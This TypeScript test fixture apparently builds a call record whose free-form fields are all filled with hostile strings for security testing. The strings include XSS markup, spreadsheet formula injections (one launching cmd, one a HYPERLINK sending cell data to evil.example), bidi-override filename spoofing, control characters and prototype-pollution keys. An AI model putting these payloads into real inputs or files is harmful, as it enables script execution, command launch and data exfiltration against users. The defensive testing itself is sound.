// A record whose every free-form string is hostile: markup and script, spreadsheet formulas, bidi
// overrides, control characters, prototype names and 100 KB runs. The emulator serves it (scenario
// "hostile") so the security tests drive the real app with it; unit tests read it directly.
import realTenant from "../../lib/graph/fixtures/real-tenant-shape.json";

export const HOSTILE_STRINGS = [
  `<img src=x onerror="window.__pwned=1;alert('xss')">`,
  `"><script>window.__pwned=1</script>`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `-2+3`,
  "Clara \u202Eevil\u202C Oswald",
  "\u202Egnp.exe",
  "tab\there\nnewline\u0000nul\u0007bell\u001b[31m",
  "__proto__",
  "constructor",
  "toString",
  "javascript:alert(1)",
  "{{7*7}}${7*7}",
  "W".repeat(100_000),
] as const;

/** Strings that must stay well-formed for the record to parse at all: IDs, times, durations, direction. */
const STRUCTURAL = /^(id|tenantId|streamDirection|@odata\..*|.*DateTime|.*@callscope\..*)$/;
const isDuration = (value: string) => /^-?P(?!$)/.test(value);

/** The real-tenant record with every free-form string replaced by a hostile payload, in rotation. */
export function hostileRecord(): Record<string, unknown> {
  let next = 0;
  const payload = () => HOSTILE_STRINGS[next++ % HOSTILE_STRINGS.length] ?? "";
  const walk = (value: unknown, key: string): unknown => {
    if (typeof value === "string") return STRUCTURAL.test(key) || isDuration(value) ? value : payload();
    if (Array.isArray(value)) return value.map((item) => walk(item, key));
    if (value && typeof value === "object")
      return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, walk(v, k)]));
    return value;
  };
  // Every user agent gets a role to carry a payload, the meeting service's empty one included: a hostile
  // service role is a string callscope labels with.
  const withRoles = JSON.parse(JSON.stringify(realTenant), (key, value: unknown) =>
    key === "userAgent" && value && typeof value === "object" && !("role" in value) && !("platform" in value)
      ? { ...value, role: "" }
      : value,
  ) as Record<string, unknown>;
  const record = walk(
    Object.fromEntries(Object.entries(withRoles).filter(([key]) => !key.includes("@"))),
    "",
  ) as Record<string, unknown>;
  // Feedback is free text and an open set of tokens: both hostile, prototype names included.
  const sessions = record.sessions as { caller: Record<string, unknown> }[];
  const caller = sessions[0]?.caller;
  if (caller) {
    caller.feedback = {
      rating: "poor",
      text: `I could barely hear Clara. ${HOSTILE_STRINGS[0]} ${HOSTILE_STRINGS[6]} ${HOSTILE_STRINGS[14]}`,
      tokens: JSON.parse(
        '{"constructor":true,"__proto__":true,"toString":true,"hasOwnProperty":true,"NoSound":true,"<b>Echo</b>":true}',
      ) as Record<string, boolean>,
    };
  }
  return record;
}
